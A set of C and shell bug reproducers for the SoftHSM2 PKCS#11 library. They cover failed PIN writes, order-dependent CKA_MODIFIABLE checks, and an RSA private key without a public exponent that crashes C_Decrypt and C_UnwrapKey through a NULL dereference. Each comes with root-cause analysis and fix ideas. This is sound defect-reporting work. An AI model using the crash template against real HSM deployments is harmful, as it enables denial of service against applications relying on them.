	char cmd[512]; snprintf(cmd, sizeof(cmd), "ls -l %s/tokens/*/ | grep -v total", g_tmpdir); if (system(cmd)) {}
	CHECK(F->C_Finalize(NULL));
	return reproduced;
}

static int stageB(void)
{
	/* the token of stage A is still there (only its key was lost) */
	CHECK(F->C_Initialize(NULL));
	g_slot = find_slot();
	CK_SESSION_HANDLE s = open_rw();
	login_user(s);
	gen_aes(s, CK_TRUE, CK_FALSE, CK_TRUE);
	printf("[B] token has %lu object(s)\n", count_objects(s));
	limit(100);
	CK_RV rv = F->C_SetPIN(s, (CK_UTF8CHAR_PTR)"1234", 4, (CK_UTF8CHAR_PTR)"abcdef", 6);
	unlimit();
	printf("[B] C_SetPIN while token.object cannot be written: rv=0x%lx\n", rv);
	if (rv == CKR_OK) { printf("[B] the write did not fail - cannot judge\n"); return 0; }
	F->C_Finalize(NULL);
	CHECK(F->C_Initialize(NULL));
	CK_SLOT_ID slots[16]; CK_ULONG n = 16; int initialised = 0;
	CHECK(F->C_GetSlotList(CK_TRUE, slots, &n));
	for (CK_ULONG i = 0; i < n; i++) {
		CK_TOKEN_INFO ti;
		if (F->C_GetTokenInfo(slots[i], &ti) == CKR_OK && (ti.flags & CKF_TOKEN_INITIALIZED)) initialised++;
	}
	printf("[B] after C_Finalize/C_Initialize: %d initialised token(s) (expected 1, with the old PIN still valid)\n", initialised);
	if (initialised == 1) {
		g_slot = find_slot();
		s = open_rw();
		rv = F->C_Login(s, CKU_USER, (CK_UTF8CHAR_PTR)"1234", 4);
		printf("[B] login with the old PIN rv=0x%lx\n", rv);
		if (rv == CKR_OK && count_objects(s) == 1) { F->C_Finalize(NULL); return 0; }
	}
	F->C_Finalize(NULL);
	return 1;
}

int main(int argc, char** argv)
{
	if (argc < 2) { printf("usage: %s <libdir>\n", argv[0]); return 2; }
	setvbuf(stdout, NULL, _IONBF, 0);
	signal(SIGXFSZ, SIG_IGN);
	getrlimit(RLIMIT_FSIZE, &oldlim);
	setup(argv[1]);
	init_token();
	int a = stageA();
	int b = stageB();
	cleanup();
	printf("stage A (C_SetAttributeValue): %s\nstage B (C_SetPIN): %s\n", a ? "DEFECT REPRODUCED" : "not reproduced", b ? "DEFECT REPRODUCED" : "not reproduced");
	return (a || b) ? 1 : 0;
}
