#!/bin/sh
# usage: run.sh <directory that contains libsofthsm2.so>
# exit status 1 = defect reproduced, 0 = not reproduced, 2 = set-up problem
here=$(cd "$(dirname "$0")" && pwd)
lib=${1:?usage: run.sh <library directory>}
src=$(cd "$here/../.." && pwd)/src/lib/pkcs11
[ -d "$src" ] || src=/tmp/wth-C/src/lib/pkcs11
cc -g -O0 -Wall -Wno-unused-function -Wno-unused-variable -I"$src" -o "$here/repro" "$here/repro.c" -ldl || exit 2
"$here/repro" "$lib"
