/*
 * Defect 4: the position of CKA_MODIFIABLE = CK_FALSE in a template decides whether
 * C_UnwrapKey, C_DeriveKey and C_CopyObject accept it.
 *
 * A template is a set; PKCS#11 allows CKA_MODIFIABLE to be given when an object is
 * unwrapped, derived or copied.  With SoftHSM the very same template
 *     { CKA_CLASS, CKA_KEY_TYPE, CKA_LABEL, CKA_ENCRYPT, CKA_MODIFIABLE = CK_FALSE }
 * works when CKA_MODIFIABLE is the LAST entry and is rejected with
 * CKR_ATTRIBUTE_READ_ONLY (0x10) when any other attribute follows it.
 * C_GenerateKey / C_CreateObject accept both orders.  In addition a non-modifiable
 * object cannot be copied with ANY non-empty template (e.g. { CKA_TOKEN = CK_TRUE }
 * to make a session key persistent), although the attributes named there may be
 * changed by C_CopyObject.
 *
 * Root cause: src/lib/P11Attributes.cpp:422-426, P11Attribute::update():
 *     if (!isModifiable() && op != OBJECT_OP_GENERATE && op != OBJECT_OP_CREATE)
 *         return CKR_ATTRIBUTE_READ_ONLY;
 * isModifiable() (line 72-79) reads CKA_MODIFIABLE of the object UNDER CONSTRUCTION,
 * inside the running transaction of P11Object::saveTemplate() (P11Objects.cpp:218-240),
 * which applies the template entries one after the other.  As soon as the entry
 * CKA_MODIFIABLE = CK_FALSE has been applied, every later entry of the same template
 * is treated as a modification of a read-only object.  The exemption list names only
 * GENERATE and CREATE; OBJECT_OP_DERIVE, OBJECT_OP_UNWRAP (and COPY) were forgotten.
 * Fix idea: the CKA_MODIFIABLE test belongs to C_SetAttributeValue only (it is done
 * there already: SoftHSM.cpp:1917 and P11Objects.cpp:197-204); drop it from
 * P11Attribute::update() for every creating operation (DERIVE, UNWRAP, COPY), or
 * evaluate it once, before the first template entry is applied.
 *
 * usage: repro <dir with libsofthsm2.so>      exit 1 = reproduced, 0 = not
 */
#include "common.h"

int main(int argc, char** argv)
{
	if (argc < 2) { printf("usage: %s <libdir>\n", argv[0]); return 2; }
	setvbuf(stdout, NULL, _IONBF, 0);
	setup(argv[1]);
	init_token();
	CK_SESSION_HANDLE s = open_rw(); login_user(s);
	CK_OBJECT_CLASS cSecret = CKO_SECRET_KEY; CK_KEY_TYPE kAES = CKK_AES;
	CK_OBJECT_HANDLE kek = gen_aes(s, CK_FALSE, CK_FALSE, CK_TRUE), k = gen_aes(s, CK_FALSE, CK_FALSE, CK_TRUE), h = 0, c = 0;
	CK_ULONG l16 = 16, l32 = 32;
	int reproduced = 0;
	CK_RV first, last;

	/* C_UnwrapKey */
	CK_BYTE w[128]; CK_ULONG wl = sizeof(w); CK_MECHANISM wm = { CKM_AES_KEY_WRAP, NULL, 0 };
	CHECK(F->C_WrapKey(s, &wm, kek, k, w, &wl));
	CK_ATTRIBUTE u1[] = { ATTR(CKA_CLASS, cSecret), ATTR(CKA_KEY_TYPE, kAES), ATTR(CKA_MODIFIABLE, bFalse), { CKA_LABEL, "x", 1 }, ATTR(CKA_ENCRYPT, bTrue) };
	CK_ATTRIBUTE u2[] = { ATTR(CKA_CLASS, cSecret), ATTR(CKA_KEY_TYPE, kAES), { CKA_LABEL, "x", 1 }, ATTR(CKA_ENCRYPT, bTrue), ATTR(CKA_MODIFIABLE, bFalse) };
	first = F->C_UnwrapKey(s, &wm, kek, w, wl, u1, NEL(u1), &h);
	last = F->C_UnwrapKey(s, &wm, kek, w, wl, u2, NEL(u2), &h);
	printf("C_UnwrapKey   CKA_MODIFIABLE=FALSE in the middle: 0x%03lx   at the end: 0x%03lx %s\n", first, last, first != last ? "  <-- order dependent" : "");
	if (first != last) reproduced = 1;

	/* C_DeriveKey */
	CK_BYTE d[16] = { 1 }; CK_KEY_DERIVATION_STRING_DATA sd = { d, sizeof(d) };
	CK_MECHANISM dm = { CKM_AES_ECB_ENCRYPT_DATA, &sd, sizeof(sd) };
	CK_ATTRIBUTE d1[] = { ATTR(CKA_CLASS, cSecret), ATTR(CKA_KEY_TYPE, kAES), ATTR(CKA_MODIFIABLE, bFalse), ATTR(CKA_VALUE_LEN, l16), { CKA_LABEL, "x", 1 } };
	CK_ATTRIBUTE d2[] = { ATTR(CKA_CLASS, cSecret), ATTR(CKA_KEY_TYPE, kAES), ATTR(CKA_VALUE_LEN, l16), { CKA_LABEL, "x", 1 }, ATTR(CKA_MODIFIABLE, bFalse) };
	first = F->C_DeriveKey(s, &dm, k, d1, NEL(d1), &h);
	last = F->C_DeriveKey(s, &dm, k, d2, NEL(d2), &h);
	printf("C_DeriveKey   CKA_MODIFIABLE=FALSE in the middle: 0x%03lx   at the end: 0x%03lx %s\n", first, last, first != last ? "  <-- order dependent" : "");
	if (first != last) reproduced = 1;

	/* C_CopyObject */
	CK_ATTRIBUTE c1[] = { ATTR(CKA_MODIFIABLE, bFalse), { CKA_LABEL, "z", 1 } };
	CK_ATTRIBUTE c2[] = { { CKA_LABEL, "z", 1 }, ATTR(CKA_MODIFIABLE, bFalse) };
	first = F->C_CopyObject(s, k, c1, NEL(c1), &c);
	last = F->C_CopyObject(s, k, c2, NEL(c2), &c);
	printf("C_CopyObject  CKA_MODIFIABLE=FALSE first        : 0x%03lx   at the end: 0x%03lx %s\n", first, last, first != last ? "  <-- order dependent" : "");
	if (first != last) reproduced = 1;

	/* for comparison: C_GenerateKey */
	CK_MECHANISM gm = { CKM_AES_KEY_GEN, NULL, 0 };
	CK_ATTRIBUTE g1[] = { ATTR(CKA_MODIFIABLE, bFalse), ATTR(CKA_VALUE_LEN, l32), { CKA_LABEL, "x", 1 }, ATTR(CKA_ENCRYPT, bTrue) };
	CK_ATTRIBUTE g2[] = { ATTR(CKA_VALUE_LEN, l32), { CKA_LABEL, "x", 1 }, ATTR(CKA_ENCRYPT, bTrue), ATTR(CKA_MODIFIABLE, bFalse) };
	first = F->C_GenerateKey(s, &gm, g1, NEL(g1), &h);
	last = F->C_GenerateKey(s, &gm, g2, NEL(g2), &h);
	printf("C_GenerateKey CKA_MODIFIABLE=FALSE first        : 0x%03lx   at the end: 0x%03lx  (reference: both fine)\n", first, last);

	/* h is a non-modifiable session key: make it persistent */
	CK_ATTRIBUTE tok[] = { ATTR(CKA_TOKEN, bTrue) };
	CK_RV rv0 = F->C_CopyObject(s, h, tok, 0, &c), rv1 = F->C_CopyObject(s, h, tok, 1, &c);
	printf("C_CopyObject of a non-modifiable key: empty template 0x%03lx, { CKA_TOKEN = TRUE } 0x%03lx\n", rv0, rv1);

	F->C_Finalize(NULL);
	cleanup();
	printf("%s\n", reproduced ? "DEFECT REPRODUCED" : "not reproduced");
	return reproduced;
}
