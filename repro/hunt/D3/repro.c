/*
 * DEFECT 3: an RSA private key object that was created without CKA_PUBLIC_EXPONENT (and/or without
 *           the CRT components) crashes the process (SIGSEGV, NULL dereference inside libcrypto) in
 *           C_Decrypt and in C_UnwrapKey.
 *
 * WHAT IS DONE
 *   A 1024 bit RSA key is made with libcrypto and imported with C_CreateObject as CKO_PRIVATE_KEY /
 *   CKK_RSA with only the attributes PKCS#11 requires: CKA_MODULUS and CKA_PRIVATE_EXPONENT
 *   (CKA_PUBLIC_EXPONENT, CKA_PRIME_1/2, CKA_EXPONENT_1/2 and CKA_COEFFICIENT are optional for private
 *   keys in PKCS#11 and also in this library: P11Objects.cpp marks only modulus and private exponent
 *   with "ck1").  C_CreateObject returns CKR_OK.  Then, each in a forked child process,
 *     a) C_DecryptInit(CKM_RSA_PKCS) + C_Decrypt of a ciphertext made with the public key,
 *     b) C_UnwrapKey(CKM_RSA_PKCS) of an AES key encrypted with the public key,
 *     c) C_SignInit(CKM_SHA256_RSA_PKCS) + C_Sign   (for comparison)
 *   are called.  All pointers handed to the library are valid.
 *
 * OBSERVED (unmodified tree)
 *   C_CreateObject(n, d only)          rv=0x0
 *   child a) C_Decrypt   : killed by signal 11
 *   child b) C_UnwrapKey : killed by signal 11
 *   child c) C_Sign      : rv=0x5 (CKR_GENERAL_ERROR, no crash, but the key is unusable)
 *   ASan build:  SEGV on unknown address 0x000000000008 READ
 *       #0 BN_num_bits  #1 RSA_size
 *       #2 OSSLRSA::decrypt(...)            src/lib/crypto/OSSLRSA.cpp:1299
 *       #3 AsymDecrypt(...)                 src/lib/SoftHSM.cpp:3386
 *       #4 SoftHSM::C_Decrypt(...)          src/lib/SoftHSM.cpp:3434
 *   The same happens with the variant "n, d, p, q, dp, dq, qinv but no e".
 *
 * EXPECTED
 *   Either the object is refused at creation time (CKR_TEMPLATE_INCOMPLETE) or - better, since n and d
 *   are sufficient for the private key operation - decryption / unwrapping / signing simply work; in no
 *   case may a library call kill the application.
 *
 * ROOT CAUSE
 *   src/lib/crypto/OSSLRSAPrivateKey.cpp, OSSLRSAPrivateKey::createOSSLKey(), lines 307-318:
 *       BIGNUM* bn_e = OSSL::byteString2bn(e);      // NULL for an empty byte string (OSSLUtil.cpp:57)
 *       ...
 *       RSA_set0_key(rsa, bn_n, bn_e, bn_d);        // return value ignored
 *   RSA_set0_key() refuses to set anything when e would stay NULL ("(r->e == NULL && e == NULL) return 0"),
 *   so the RSA object keeps n == NULL (and bn_n, bn_d leak).  getOSSLKey() nevertheless returns that
 *   half-built object and OSSLRSA::decrypt() (src/lib/crypto/OSSLRSA.cpp:1296-1299)
 *       RSA* rsa = ((OSSLRSAPrivateKey*) privateKey)->getOSSLKey();
 *       if (encryptedData.size() != (size_t) RSA_size(rsa))
 *   calls RSA_size() on it, which dereferences the NULL modulus.  C_UnwrapKey reaches the same line via
 *   UnwrapKeyAsym() -> AsymmetricAlgorithm::unwrapKey() -> decrypt().  The signing functions do not
 *   crash only because RSA_blinding_on() fails first.
 *
 * FIX IDEA
 *   In createOSSLKey() check the results of RSA_set0_key / RSA_set0_factors / RSA_set0_crt_params and
 *   on failure free the RSA object (rsa = NULL) so that getOSSLKey() returns NULL, and make the users
 *   (OSSLRSA::decrypt/sign*) return false on a NULL key.  To keep such keys usable, derive e when it is
 *   missing but p, q are present, or perform the operation without blinding (RSA_FLAG_NO_BLINDING) when
 *   only n and d are known; alternatively reject the template in C_CreateObject.
 *
 * exit status: 1 = reproduced, 0 = not reproduced, 2 = set-up problem
 */
/* ---- common set-up code (identical in all reproducers) ---- */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <dlfcn.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include "cryptoki.h"

static CK_FUNCTION_LIST_PTR F;
static CK_SESSION_HANDLE S;
static char g_tmpdir[1100];
static CK_BBOOL T_ = CK_TRUE, F_ = CK_FALSE;

#define CHECK(rv, what) do { CK_RV _r = (rv); if (_r != CKR_OK) { fprintf(stderr, "%s:%d %s failed: 0x%lx\n", __FILE__, __LINE__, what, (unsigned long)_r); exit(2);} } while (0)

static void hexdump(const char *label, const unsigned char *p, size_t n)
{
	printf("%s (%zu bytes) ", label, n);
	for (size_t i = 0; i < n; i++) printf("%02x", p[i]);
	printf("\n");
}

/* loads <libdir>/libsofthsm2.so, creates a fresh token in a temp dir, opens a R/W session and logs in as user */
static void setup(const char *libdir)
{
	char path[1024], conf[1024];
	if (!getcwd(path, sizeof path)) exit(2);
	snprintf(g_tmpdir, sizeof g_tmpdir, "%s/tmp.XXXXXX", path);
	if (!mkdtemp(g_tmpdir)) { perror("mkdtemp"); exit(2); }
	snprintf(path, sizeof path, "%s/tokens", g_tmpdir);
	mkdir(path, 0700);
	snprintf(conf, sizeof conf, "%s/softhsm2.conf", g_tmpdir);
	FILE *f = fopen(conf, "w");
	fprintf(f, "directories.tokendir = %s/tokens\nobjectstore.backend = file\nlog.level = ERROR\nslots.removable = false\n", g_tmpdir);
	fclose(f);
	setenv("SOFTHSM2_CONF", conf, 1);
	snprintf(path, sizeof path, "%s/libsofthsm2.so", libdir);
	void *h = dlopen(path, RTLD_NOW);
	if (!h) { fprintf(stderr, "dlopen: %s\n", dlerror()); exit(2); }
	CK_C_GetFunctionList gfl = (CK_C_GetFunctionList)dlsym(h, "C_GetFunctionList");
	CHECK(gfl(&F), "C_GetFunctionList");
	CHECK(F->C_Initialize(NULL), "C_Initialize");
	CK_SLOT_ID slots[8]; CK_ULONG n = 8;
	CHECK(F->C_GetSlotList(CK_FALSE, slots, &n), "C_GetSlotList");
	CK_UTF8CHAR label[32]; memset(label, ' ', 32); memcpy(label, "repro", 5);
	CHECK(F->C_InitToken(slots[0], (CK_UTF8CHAR_PTR)"12345678", 8, label), "C_InitToken");
	n = 8;
	CHECK(F->C_GetSlotList(CK_TRUE, slots, &n), "C_GetSlotList");
	CK_SLOT_ID slot = slots[0];
	for (CK_ULONG i = 0; i < n; i++) {
		CK_TOKEN_INFO ti;
		if (F->C_GetTokenInfo(slots[i], &ti) == CKR_OK && (ti.flags & CKF_TOKEN_INITIALIZED)) { slot = slots[i]; break; }
	}
	CHECK(F->C_OpenSession(slot, CKF_SERIAL_SESSION | CKF_RW_SESSION, NULL, NULL, &S), "C_OpenSession");
	CHECK(F->C_Login(S, CKU_SO, (CK_UTF8CHAR_PTR)"12345678", 8), "C_Login SO");
	CHECK(F->C_InitPIN(S, (CK_UTF8CHAR_PTR)"1234", 4), "C_InitPIN");
	CHECK(F->C_Logout(S), "C_Logout");
	CHECK(F->C_Login(S, CKU_USER, (CK_UTF8CHAR_PTR)"1234", 4), "C_Login user");
}

static void cleanup(void)
{
	char cmd[1200];
	snprintf(cmd, sizeof cmd, "rm -rf '%s'", g_tmpdir);
	if (strstr(g_tmpdir, "/tmp.")) system(cmd);
}

static int get_attr(CK_OBJECT_HANDLE h, CK_ATTRIBUTE_TYPE type, void *buf, size_t *len)
{
	CK_ATTRIBUTE a = {type, buf, *len};
	CK_RV rv = F->C_GetAttributeValue(S, h, &a, 1);
	if (rv != CKR_OK) { *len = 0; return (int)rv; }
	*len = a.ulValueLen;
	return 0;
}
/* ---- end of common set-up code ---- */
#include <openssl/rsa.h>
#include <openssl/bn.h>

static RSA *r;
static CK_OBJECT_HANDLE priv;

static int run_child(int which)
{
	fflush(stdout);
	pid_t pid = fork();
	if (pid == 0) {
		unsigned char msg[16] = "0123456789abcde", ct[256], out[256]; CK_ULONG ol = sizeof out;
		int cl = RSA_public_encrypt(16, msg, ct, r, RSA_PKCS1_PADDING);
		CK_MECHANISM m = {CKM_RSA_PKCS, NULL, 0};
		CK_RV rv;
		if (which == 0) {
			rv = F->C_DecryptInit(S, &m, priv);
			printf("   C_DecryptInit rv=0x%lx\n", rv); fflush(stdout);
			if (!rv) rv = F->C_Decrypt(S, ct, cl, out, &ol);
			printf("   C_Decrypt rv=0x%lx\n", rv);
		} else if (which == 1) {
			CK_OBJECT_CLASS cls = CKO_SECRET_KEY; CK_KEY_TYPE kt = CKK_AES; CK_OBJECT_HANDLE h;
			CK_ATTRIBUTE t[] = {{CKA_CLASS, &cls, sizeof cls}, {CKA_KEY_TYPE, &kt, sizeof kt}, {CKA_TOKEN, &F_, 1}, {CKA_PRIVATE, &F_, 1}};
			rv = F->C_UnwrapKey(S, &m, priv, ct, cl, t, 4, &h);
			printf("   C_UnwrapKey rv=0x%lx\n", rv);
		} else {
			CK_MECHANISM sm = {CKM_SHA256_RSA_PKCS, NULL, 0};
			rv = F->C_SignInit(S, &sm, priv);
			if (!rv) rv = F->C_Sign(S, msg, 16, out, &ol);
			printf("   C_Sign rv=0x%lx\n", rv);
		}
		fflush(stdout);
		_exit(rv == CKR_OK ? 0 : 100);
	}
	int st = 0; waitpid(pid, &st, 0);
	if (WIFSIGNALED(st)) { printf("   => child killed by signal %d\n", WTERMSIG(st)); return 1; }
	printf("   => child exited with status %d%s\n", WEXITSTATUS(st), WEXITSTATUS(st) == 5 ? " (exit(CKR_GENERAL_ERROR) inside the library)" : "");
	return WEXITSTATUS(st) == 5 || WEXITSTATUS(st) == 1;   /* 1: ASan abort */
}

int main(int argc, char **argv)
{
	if (argc < 2) { fprintf(stderr, "usage: %s <libdir>\n", argv[0]); return 2; }
	setup(argv[1]);
	r = RSA_new(); BIGNUM *e = BN_new(); BN_set_word(e, 65537);
	if (!RSA_generate_key_ex(r, 1024, e, NULL)) return 2;
	const BIGNUM *n, *ee, *d; RSA_get0_key(r, &n, &ee, &d);
	unsigned char bn[200], bd[200]; size_t ln = BN_bn2bin(n, bn), ld = BN_bn2bin(d, bd);
	CK_OBJECT_CLASS cpriv = CKO_PRIVATE_KEY; CK_KEY_TYPE kt = CKK_RSA;
	CK_ATTRIBUTE t[] = {
		{CKA_CLASS, &cpriv, sizeof cpriv}, {CKA_KEY_TYPE, &kt, sizeof kt}, {CKA_TOKEN, &F_, 1}, {CKA_PRIVATE, &F_, 1},
		{CKA_SIGN, &T_, 1}, {CKA_DECRYPT, &T_, 1}, {CKA_UNWRAP, &T_, 1},
		{CKA_MODULUS, bn, ln}, {CKA_PRIVATE_EXPONENT, bd, ld},
	};
	CK_RV rv = F->C_CreateObject(S, t, sizeof t / sizeof t[0], &priv);
	printf("C_CreateObject(RSA private key with CKA_MODULUS and CKA_PRIVATE_EXPONENT only) rv=0x%lx\n", rv);
	if (rv) { printf("not reproduced (object refused)\n"); cleanup(); return 0; }
	int bad = 0;
	printf("a) decrypt\n"); bad += run_child(0);
	printf("b) unwrap\n");  bad += run_child(1);
	printf("c) sign (for comparison)\n"); run_child(2);
	F->C_Finalize(NULL);
	cleanup();
	printf(bad ? "DEFECT REPRODUCED: a library call killed the process\n" : "not reproduced\n");
	return bad ? 1 : 0;
}
